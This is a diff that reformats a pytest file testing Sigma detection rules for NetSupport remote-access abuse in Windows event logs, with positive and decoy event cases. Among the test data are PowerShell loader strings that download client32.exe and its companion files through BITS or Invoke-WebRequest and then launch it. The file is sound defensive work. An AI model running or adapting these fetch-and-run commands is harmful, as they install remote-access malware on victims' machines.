@@ -41,81 +41,195 @@ R_CLEARED_SEC = "49c6cdc6-4aba-43fc-b18d-2e2beaa8c1cc"
 R_CLEARED_SYS = "f340b59f-390d-4249-b725-ef12296ba8ed"
 
 ISC_LOADER = (
-        "if (Get-Command Start-BitsTransfer) { foreach ($f in @('client32.exe','NSM.LIC',"
-        "'PCICL32.DLL','client32.ini')) { Start-BitsTransfer -Source \"$u/$f\" "
-        "-Destination \"$env:APPDATA\\Svc\\$f\" } }")
+    "if (Get-Command Start-BitsTransfer) { foreach ($f in @('client32.exe','NSM.LIC',"
+    "'PCICL32.DLL','client32.ini')) { Start-BitsTransfer -Source \"$u/$f\" "
+    '-Destination "$env:APPDATA\\Svc\\$f" } }'
+)
 
 # (name, event data factory, expected rule ids). xml=False variants check the
 # positional `strings` fallback.
 POSITIVE_CASES = [
-        ("7045 name", lambda x: ev.Service7045("Client32", f'"{PF_CLIENT}" /* *', xml=x),
-          {R_SVC_SYS_NAME, R_SVC_SYS_PATH}),
-        ("7045 display name", lambda x: ev.Service7045("NetSupport Client", "C:\\ns\\svc.exe", xml=x),
-          {R_SVC_SYS_NAME}),
-        ("7045 renamed service, client image", lambda x: ev.Service7045(
-                "WinUpdate Helper", f'"{DROP_CLIENT}"', xml=x), {R_SVC_SYS_PATH}),
-        ("4697 name", lambda x: ev.Service4697("Client32", "C:\\x\\svc.exe", xml=x), {R_SVC_SEC_NAME}),
-        ("4697 image", lambda x: ev.Service4697("Updater", DROP_CLIENT, xml=x), {R_SVC_SEC_PATH}),
-        ("7036 display name", lambda x: ev.ServiceControl(
-                7036, ["NetSupport Client", "running"],
-                binary="43006C00690065006E007400330032002F0034000000", xml=x), {R_SVC_STATE}),
-        ("7036 key name in binary only", lambda x: ev.ServiceControl(
-                7036, ["Some Service", "stopped"],
-                binary="43006C00690065006E007400330032002F0031000000", xml=x), {R_SVC_STATE}),
-        ("7035 control", lambda x: ev.ServiceControl(7035, ["NetSupport Client", "start"], xml=x),
-          {R_SVC_STATE}),
-        ("7040 start type", lambda x: ev.ServiceControl(
-                7040, ["NetSupport Client", "demand start", "auto start", "Client32"], xml=x),
-          {R_SVC_STATE}),
-        ("4688 client in AppData", lambda x: ev.Process4688(
-                DROP_CLIENT, "C:\\Windows\\System32\\wscript.exe", xml=x), {R_OUTSIDE_PF}),
-        ("4688 v0 client in ProgramData", lambda x: ev.Process4688(
-                "C:\\ProgramData\\SchCache\\client32.exe", "", xml=x, version=0), {R_OUTSIDE_PF}),
-        ("4688 stub from renamed client", lambda x: ev.Process4688(
-                "C:\\ProgramData\\SchCache\\remcmdstub.exe",
-                "C:\\ProgramData\\SchCache\\presentationhost.exe", xml=x), {R_RENAMED}),
-        ("4688 powershell from client", lambda x: ev.Process4688(POWERSHELL, DROP_CLIENT, xml=x),
-          {R_PWSH}),
-        ("4688 pwsh from stub", lambda x: ev.Process4688(
-                "C:\\Program Files\\PowerShell\\7\\pwsh.exe", DROP_STUB, xml=x), {R_PWSH}),
-        ("4688 cmd from stub", lambda x: ev.Process4688(CMD, DROP_STUB, xml=x), {R_CMD}),
-        ("4688 cmd from client in Program Files", lambda x: ev.Process4688(
-                CMD, PF_CLIENT, "cmd.exe /C start x", xml=x), {R_CMD}),
-        ("4104 ISC loader", lambda x: ev.ScriptBlock4104(ISC_LOADER, xml=x), {R_SCRIPT}),
-        ("4104 unpack", lambda x: ev.ScriptBlock4104(
-                "Invoke-WebRequest $u -OutFile $z; Expand-Archive $z $d; "
-                "Start-Process \"$d\\client32.exe\"", xml=x), {R_SCRIPT}),
-        ("1102 cleared", lambda x: ev.LogCleared1102(xml=x), {R_CLEARED_SEC}),
-        ("104 cleared", lambda x: ev.LogCleared104(xml=x), {R_CLEARED_SYS}),
+    (
+        "7045 name",
+        lambda x: ev.Service7045("Client32", f'"{PF_CLIENT}" /* *', xml=x),
+        {R_SVC_SYS_NAME, R_SVC_SYS_PATH},
+    ),
+    (
+        "7045 display name",
+        lambda x: ev.Service7045("NetSupport Client", "C:\\ns\\svc.exe", xml=x),
+        {R_SVC_SYS_NAME},
+    ),
+    (
+        "7045 renamed service, client image",
+        lambda x: ev.Service7045("WinUpdate Helper", f'"{DROP_CLIENT}"', xml=x),
+        {R_SVC_SYS_PATH},
+    ),
+    (
+        "4697 name",
+        lambda x: ev.Service4697("Client32", "C:\\x\\svc.exe", xml=x),
+        {R_SVC_SEC_NAME},
+    ),
+    (
+        "4697 image",
+        lambda x: ev.Service4697("Updater", DROP_CLIENT, xml=x),
+        {R_SVC_SEC_PATH},
+    ),
+    (
+        "7036 display name",
+        lambda x: ev.ServiceControl(
+            7036,
+            ["NetSupport Client", "running"],
+            binary="43006C00690065006E007400330032002F0034000000",
+            xml=x,
+        ),
+        {R_SVC_STATE},
+    ),
+    (
+        "7036 key name in binary only",
+        lambda x: ev.ServiceControl(
+            7036,
+            ["Some Service", "stopped"],
+            binary="43006C00690065006E007400330032002F0031000000",
+            xml=x,
+        ),
+        {R_SVC_STATE},
+    ),
+    (
+        "7035 control",
+        lambda x: ev.ServiceControl(7035, ["NetSupport Client", "start"], xml=x),
+        {R_SVC_STATE},
+    ),
+    (
+        "7040 start type",
+        lambda x: ev.ServiceControl(
+            7040, ["NetSupport Client", "demand start", "auto start", "Client32"], xml=x
+        ),
+        {R_SVC_STATE},
+    ),
+    (
+        "4688 client in AppData",
+        lambda x: ev.Process4688(
+            DROP_CLIENT, "C:\\Windows\\System32\\wscript.exe", xml=x
+        ),
+        {R_OUTSIDE_PF},
+    ),
+    (
+        "4688 v0 client in ProgramData",
+        lambda x: ev.Process4688(
+            "C:\\ProgramData\\SchCache\\client32.exe", "", xml=x, version=0
+        ),
+        {R_OUTSIDE_PF},
+    ),
+    (
+        "4688 stub from renamed client",
+        lambda x: ev.Process4688(
+            "C:\\ProgramData\\SchCache\\remcmdstub.exe",
+            "C:\\ProgramData\\SchCache\\presentationhost.exe",
+            xml=x,
+        ),
+        {R_RENAMED},
+    ),
+    (
+        "4688 powershell from client",
+        lambda x: ev.Process4688(POWERSHELL, DROP_CLIENT, xml=x),
+        {R_PWSH},
+    ),
+    (
+        "4688 pwsh from stub",
+        lambda x: ev.Process4688(
+            "C:\\Program Files\\PowerShell\\7\\pwsh.exe", DROP_STUB, xml=x
+        ),
+        {R_PWSH},
+    ),
+    ("4688 cmd from stub", lambda x: ev.Process4688(CMD, DROP_STUB, xml=x), {R_CMD}),
+    (
+        "4688 cmd from client in Program Files",
+        lambda x: ev.Process4688(CMD, PF_CLIENT, "cmd.exe /C start x", xml=x),
+        {R_CMD},
+    ),
+    ("4104 ISC loader", lambda x: ev.ScriptBlock4104(ISC_LOADER, xml=x), {R_SCRIPT}),
+    (
+        "4104 unpack",
+        lambda x: ev.ScriptBlock4104(
+            "Invoke-WebRequest $u -OutFile $z; Expand-Archive $z $d; "
+            'Start-Process "$d\\client32.exe"',
+            xml=x,
+        ),
+        {R_SCRIPT},
+    ),
+    ("1102 cleared", lambda x: ev.LogCleared1102(xml=x), {R_CLEARED_SEC}),
+    ("104 cleared", lambda x: ev.LogCleared104(xml=x), {R_CLEARED_SYS}),
 ]
 
 DECOY_CASES = [
-        ("7045 TeamViewer", lambda x: ev.Service7045(
-                "TeamViewer", '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"', xml=x)),
-        ("7045 AnyDesk", lambda x: ev.Service7045(
-                "AnyDesk Service", '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', xml=x)),
-        ("4697 AnyDesk", lambda x: ev.Service4697(
-                "AnyDesk", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", xml=x)),
-        ("7045 Ivanti NetInstall", lambda x: ev.Service7045("NetInstall Agent", f'"{IVANTI}"', xml=x)),
-        ("7036 TeamViewer", lambda x: ev.ServiceControl(7036, ["TeamViewer", "running"], xml=x)),
-        ("4688 explorer -> cmd", lambda x: ev.Process4688(CMD, "C:\\Windows\\explorer.exe", xml=x)),
-        ("4688 client in Program Files", lambda x: ev.Process4688(
-                PF_CLIENT, "C:\\Windows\\System32\\services.exe", xml=x)),
-        ("4688 stub from client", lambda x: ev.Process4688(DROP_STUB, DROP_CLIENT, xml=x)),
-        ("4688 Ivanti NetInstall", lambda x: ev.Process4688(
-                IVANTI, "C:\\Windows\\System32\\services.exe", xml=x)),
-        ("4688 powershell from explorer", lambda x: ev.Process4688(
-                POWERSHELL, "C:\\Windows\\explorer.exe", xml=x)),
-        ("4104 unrelated Invoke-WebRequest", lambda x: ev.ScriptBlock4104(
-                "Invoke-WebRequest -Uri https://example.org/report.csv -OutFile C:\\temp\\r.csv", xml=x)),
-        ("4104 NetSupport name without action", lambda x: ev.ScriptBlock4104(
-                "Get-Process client32 | Select-Object Id", xml=x)),
+    (
+        "7045 TeamViewer",
+        lambda x: ev.Service7045(
+            "TeamViewer",
+            '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"',
+            xml=x,
+        ),
+    ),
+    (
+        "7045 AnyDesk",
+        lambda x: ev.Service7045(
+            "AnyDesk Service",
+            '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
+            xml=x,
+        ),
+    ),
+    (
+        "4697 AnyDesk",
+        lambda x: ev.Service4697(
+            "AnyDesk", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", xml=x
+        ),
+    ),
+    (
+        "7045 Ivanti NetInstall",
+        lambda x: ev.Service7045("NetInstall Agent", f'"{IVANTI}"', xml=x),
+    ),
+    (
+        "7036 TeamViewer",
+        lambda x: ev.ServiceControl(7036, ["TeamViewer", "running"], xml=x),
+    ),
+    (
+        "4688 explorer -> cmd",
+        lambda x: ev.Process4688(CMD, "C:\\Windows\\explorer.exe", xml=x),
+    ),
+    (
+        "4688 client in Program Files",
+        lambda x: ev.Process4688(
+            PF_CLIENT, "C:\\Windows\\System32\\services.exe", xml=x
+        ),
+    ),
+    ("4688 stub from client", lambda x: ev.Process4688(DROP_STUB, DROP_CLIENT, xml=x)),
+    (
+        "4688 Ivanti NetInstall",
+        lambda x: ev.Process4688(IVANTI, "C:\\Windows\\System32\\services.exe", xml=x),
+    ),
+    (
+        "4688 powershell from explorer",
+        lambda x: ev.Process4688(POWERSHELL, "C:\\Windows\\explorer.exe", xml=x),
+    ),
+    (
+        "4104 unrelated Invoke-WebRequest",
+        lambda x: ev.ScriptBlock4104(
+            "Invoke-WebRequest -Uri https://example.org/report.csv -OutFile C:\\temp\\r.csv",
+            xml=x,
+        ),
+    ),
+    (
+        "4104 NetSupport name without action",
+        lambda x: ev.ScriptBlock4104("Get-Process client32 | Select-Object Id", xml=x),
+    ),
 ]
 
 
 @pytest.fixture(scope="module")
 def sigma_engine():
-    return engine.SigmaEngine.FromDirectories([engine.BUILTIN_RULES_DIRECTORY]).Compile()
+    return engine.SigmaEngine.FromDirectories(
+        [engine.BUILTIN_RULES_DIRECTORY]
+    ).Compile()
 
 
 def test_rule_files_exist():
@@ -149,27 +263,51 @@ def test_rule_ids_unique(sigma_engine):
 
 
 def test_sigma_check_offline(tmp_path):
-    sigma_cli = shutil.which("sigma") or os.path.join(os.path.dirname(sys.executable), "sigma")
+    sigma_cli = shutil.which("sigma") or os.path.join(
+        os.path.dirname(sys.executable), "sigma"
+    )
     if not os.path.exists(sigma_cli):
         pytest.skip("sigma-cli is not installed (pip install plaso-netsupport[test])")
     environment = dict(os.environ)
     # No network: any download attempt fails fast instead of passing silently.
-    environment.update({
-            "HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path),
-            "HTTP_PROXY": "http://127.0.0.1:9", "HTTPS_PROXY": "http://127.0.0.1:9",
-            "http_proxy": "http://127.0.0.1:9", "https_proxy": "http://127.0.0.1:9",
-            "NO_PROXY": "", "no_proxy": ""})
+    environment.update(
+        {
+            "HOME": str(tmp_path),
+            "XDG_CACHE_HOME": str(tmp_path),
+            "HTTP_PROXY": "http://127.0.0.1:9",
+            "HTTPS_PROXY": "http://127.0.0.1:9",
+            "http_proxy": "http://127.0.0.1:9",
+            "https_proxy": "http://127.0.0.1:9",
+            "NO_PROXY": "",
+            "no_proxy": "",
+        }
+    )
     result = subprocess.run(
-            [sigma_cli, "check", "--fail-on-error", "--fail-on-issues",
-              "-x", "attacktag", "-x", "d3_fendtag", engine.BUILTIN_RULES_DIRECTORY],
-            capture_output=True, text=True, timeout=120, env=environment, check=False)
+        [
+            sigma_cli,
+            "check",
+            "--fail-on-error",
+            "--fail-on-issues",
+            "-x",
+            "attacktag",
+            "-x",
+            "d3_fendtag",
+            engine.BUILTIN_RULES_DIRECTORY,
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=environment,
+        check=False,
+    )
     assert result.returncode == 0, result.stdout + result.stderr
     assert "Found 0 errors, 0 condition errors and 0 issues" in result.stdout
 
 
 @pytest.mark.parametrize("xml", [True, False], ids=["xml", "strings"])
-@pytest.mark.parametrize("name,factory,expected", POSITIVE_CASES,
-                                                  ids=[case[0] for case in POSITIVE_CASES])
+@pytest.mark.parametrize(
+    "name,factory,expected", POSITIVE_CASES, ids=[case[0] for case in POSITIVE_CASES]
+)
 def test_rule_fires(sigma_engine, name, factory, expected, xml):
     del name
     matches = sigma_engine.MatchEventData(factory(xml))
@@ -177,7 +315,9 @@ def test_rule_fires(sigma_engine, name, factory, expected, xml):
 
 
 @pytest.mark.parametrize("xml", [True, False], ids=["xml", "strings"])
-@pytest.mark.parametrize("name,factory", DECOY_CASES, ids=[case[0] for case in DECOY_CASES])
+@pytest.mark.parametrize(
+    "name,factory", DECOY_CASES, ids=[case[0] for case in DECOY_CASES]
+)
 def test_rule_ignores_decoy(sigma_engine, name, factory, xml):
     del name
     assert sigma_engine.MatchEventData(factory(xml)) == []
@@ -189,9 +329,15 @@ def test_every_rule_has_a_positive_case(sigma_engine):
 
 
 def test_sysmon_process_creation(sigma_engine):
-    renamed = ev.Sysmon1("C:\\ProgramData\\u\\Updatesystem.exe", "C:\\Windows\\explorer.exe",
-                                              "client32.exe")
-    assert {m.rule_id for m in sigma_engine.MatchEventData(renamed)} == {R_RENAMED, R_OUTSIDE_PF}
+    renamed = ev.Sysmon1(
+        "C:\\ProgramData\\u\\Updatesystem.exe",
+        "C:\\Windows\\explorer.exe",
+        "client32.exe",
+    )
+    assert {m.rule_id for m in sigma_engine.MatchEventData(renamed)} == {
+        R_RENAMED,
+        R_OUTSIDE_PF,
+    }
     legit = ev.Sysmon1(PF_CLIENT, "C:\\Windows\\System32\\services.exe", "client32.exe")
     assert sigma_engine.MatchEventData(legit) == []
 
@@ -201,8 +347,13 @@ def test_match_labels(sigma_engine):
     by_id = {match.rule_id: match for match in matches}
     match = by_id[R_SVC_SYS_NAME]
     assert match.labels == [
-            "netsupport", "attack_t1543", "attack_t1543_003", "attack_t1219", "attack_t1219_002",
-            "sigma_" + R_SVC_SYS_NAME.replace("-", "_")]
+        "netsupport",
+        "attack_t1543",
+        "attack_t1543_003",
+        "attack_t1219",
+        "attack_t1219_002",
+        "sigma_" + R_SVC_SYS_NAME.replace("-", "_"),
+    ]
     assert match.builtin and not match.context_required and match.level == "medium"
     for match in matches:
         for label in match.labels:
@@ -222,6 +373,8 @@ def test_knowledge_techniques_are_one_line_entries():
     # The rules' techniques must be in the knowledge file (single source of truth).
     with open(knowledge.KNOWLEDGE_FILE, encoding="utf-8") as file_object:
         data = yaml.safe_load(file_object)
-    for rule in engine.SigmaEngine.FromDirectories([engine.BUILTIN_RULES_DIRECTORY]).rules:
+    for rule in engine.SigmaEngine.FromDirectories(
+        [engine.BUILTIN_RULES_DIRECTORY]
+    ).rules:
         for technique in rule.techniques:
             assert technique in data["techniques"]
